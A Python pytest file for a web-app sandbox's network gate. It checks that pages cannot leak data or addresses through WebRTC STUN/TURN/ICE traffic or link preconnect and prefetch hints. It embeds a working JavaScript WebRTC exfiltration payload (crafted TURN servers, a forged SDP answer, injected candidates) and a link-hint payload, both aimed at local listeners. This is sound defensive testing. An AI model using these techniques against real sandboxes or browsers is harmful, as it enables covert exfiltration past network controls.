"""Side channels out of the sandbox, judged by listeners on 127.0.0.1 (what arrived), not by what
the page's JavaScript saw: WebRTC (STUN/TURN servers and ICE candidates the page chooses) and
connection hints (<link rel=preconnect>, dns-prefetch, prefetch, preload)."""

from __future__ import annotations

import asyncio
import socket
import threading
from collections.abc import Iterator

import pytest

from tests.support.listeners import ConnectionCounter

pytestmark = pytest.mark.webengine


class UdpListener:
    """Counts every datagram that reaches 127.0.0.1:<port>, and answers none."""

    def __init__(self) -> None:
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.packets: list[bytes] = []
        self._stop = False
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while not self._stop:
            try:
                self.packets.append(self.sock.recv(65536))
            except OSError:
                continue

    def close(self) -> None:
        self._stop = True
        self._thread.join(2)
        self.sock.close()


TcpListener = ConnectionCounter  # every TCP connection accepted on 127.0.0.1:<port>


@pytest.fixture
def udp() -> Iterator[UdpListener]:
    u = UdpListener()
    yield u
    u.close()


@pytest.fixture
def tcp() -> Iterator[TcpListener]:
    t = TcpListener()
    yield t
    t.close()


def wait(page, seconds: float) -> None:
    page.run(asyncio.sleep(seconds))


WEBRTC_ATTACK = """(async () => {
  const out = {candidates: [], errors: []};
  if (typeof RTCPeerConnection !== 'function') { out.api = 'absent'; return out; }
  out.api = 'present';
  const servers = [
    {urls: 'stun:127.0.0.1:%(udp)d'},
    {urls: ['turn:127.0.0.1:%(udp)d?transport=udp', 'turn:127.0.0.1:%(tcp)d?transport=tcp'],
     username: 'exfil-Alice', credential: 'x'},
  ];
  let pc;
  try { pc = new RTCPeerConnection({iceServers: servers, iceCandidatePoolSize: 2}); }
  catch (e) { out.errors.push('ctor: ' + e.name); return out; }
  pc.onicecandidate = e => { if (e.candidate) out.candidates.push(e.candidate.candidate); };
  try {
    pc.createDataChannel('x');
    await pc.setLocalDescription(await pc.createOffer());
    // a crafted answer whose candidates point at our listener: connectivity checks would go there
    const answer = pc.localDescription.sdp
      .replace(/a=setup:actpass/g, 'a=setup:active')
      .replace(/a=ice-ufrag:.*/g, 'a=ice-ufrag:evil')
      .replace(/a=ice-pwd:.*/g, 'a=ice-pwd:evilevilevilevilevilevil');
    await pc.setRemoteDescription({type: 'answer', sdp: answer});
    await pc.addIceCandidate({candidate: 'candidate:1 1 udp 2130706431 127.0.0.1 %(udp)d typ host',
                              sdpMid: '0', sdpMLineIndex: 0});
    await pc.addIceCandidate({candidate: 'candidate:2 1 tcp 2130706431 127.0.0.1 %(tcp)d typ host tcptype active',
                              sdpMid: '0', sdpMLineIndex: 0});
  } catch (e) { out.errors.push(e.name + ': ' + e.message); }
  await new Promise(r => setTimeout(r, 2500));
  out.state = pc.iceGatheringState;
  window.__pc = pc;  // keep it alive while the test watches the listeners
  return out;
})()"""


def test_webrtc_sends_no_udp_and_leaks_no_address(install_app, open_app, udp, tcp) -> None:
    page = open_app(install_app())
    result = page.ok(WEBRTC_ATTACK % {"udp": udp.port, "tcp": tcp.port}, timeout=20)
    wait(page, 1.5)
    page.ok("(window.__pc && window.__pc.close(), 1)")
    assert result["api"] == "present" and result["errors"] == [], result  # the attack really ran
    # no STUN/TURN/ICE datagram left the engine (before the fix: ~75, carrying the page's bytes)
    assert udp.packets == [], (len(udp.packets), result)
    # no candidate at all: neither a host nor a server-reflexive (LAN or public) address
    assert result["candidates"] == [], result


def test_webrtc_turn_over_tcp_dials_nothing(install_app, open_app, udp, tcp) -> None:
    page = open_app(install_app())
    page.ok(WEBRTC_ATTACK % {"udp": udp.port, "tcp": tcp.port}, timeout=20)
    wait(page, 1.0)
    page.ok("(window.__pc && window.__pc.close(), 1)")
    assert tcp.connections == 0
    # Chromium did try, and the gate proxy (not a silent engine change) refused it
    assert f"CONNECT 127.0.0.1:{tcp.port}" in gate().refused


def gate():
    from mainframe_os.gui import netgate

    assert netgate._proxy is not None, "the engine started without the gate proxy"
    return netgate._proxy


def test_granted_requests_pass_through_the_gate(install_app, open_app, server, world) -> None:
    """The gate lets out exactly what the app was granted; the page's other hosts stay refused."""
    url = f"http://127.0.0.1:{server.port}"
    app_id = install_app(
        permissions={"required": ["STORAGE"], "optional": ["WEB_REQUEST"]}, domains=[f"127.0.0.1:{server.port}"]
    )
    page = open_app(app_id)
    page.run(
        world["node"].call(
            "apps_setGrant",
            {"appId": app_id, "key": "WEB_REQUEST", "decision": "always", "identityId": world["identity"]},
        )
    )
    wait(page, 0.2)
    page.reload()
    assert page.ok(f"fetch('{url}/through-gate').then(r => r.json())") == {"hello": "world"}
    assert server.paths == ["/through-gate"]
    assert f"GET {url}/through-gate" in gate().passed  # it went out through the proxy, not around it
    listener = TcpListener()
    try:  # another port of the same host is not granted: a preconnect there reaches nothing
        page.ok(
            f"(document.head.insertAdjacentHTML('beforeend', '<link rel=preconnect href=\"https://127.0.0.1:{listener.port}\">'), 1)"
        )
        wait(page, 1.5)
        assert listener.connections == 0
    finally:
        listener.close()


PRECONNECT = """(() => {
  for (const [rel, url] of [['preconnect', 'http://127.0.0.1:%(a)d/'], ['dns-prefetch', 'http://127.0.0.1:%(b)d/'],
                            ['prefetch', 'http://127.0.0.1:%(c)d/p.js'], ['preload', 'http://127.0.0.1:%(d)d/p.js'],
                            ['modulepreload', 'http://127.0.0.1:%(e)d/m.js']]) {
    const l = document.createElement('link'); l.rel = rel; l.href = url;
    if (rel === 'preload') l.as = 'script';
    document.head.appendChild(l);
  }
  return 1;
})()"""


def hints_reach(install_app, open_app) -> list[int]:
    """Connections each hint opened: preconnect, dns-prefetch, prefetch, preload, modulepreload."""
    listeners = [TcpListener() for _ in range(5)]
    try:
        page = open_app(install_app())  # 127.0.0.1 is not granted: nothing may reach it
        ports = dict(zip("abcde", (t.port for t in listeners), strict=True))
        page.ok(PRECONNECT % ports)
        # and as markup parsed into the document
        page.ok(
            "(document.body.insertAdjacentHTML('beforeend', '<link rel=preconnect href=\"http://127.0.0.1:%d\">"
            '<link rel=dns-prefetch href="//127.0.0.1:%d">\'), 1)' % (listeners[0].port, listeners[1].port)
        )
        wait(page, 2.0)
        return [t.connections for t in listeners]
    finally:
        for t in listeners:
            t.close()


def test_prefetch_and_preload_hints_open_no_connection(install_app, open_app) -> None:
    assert hints_reach(install_app, open_app)[1:] == [0, 0, 0, 0]


def test_preconnect_opens_no_connection(install_app, open_app) -> None:
    assert hints_reach(install_app, open_app)[0] == 0
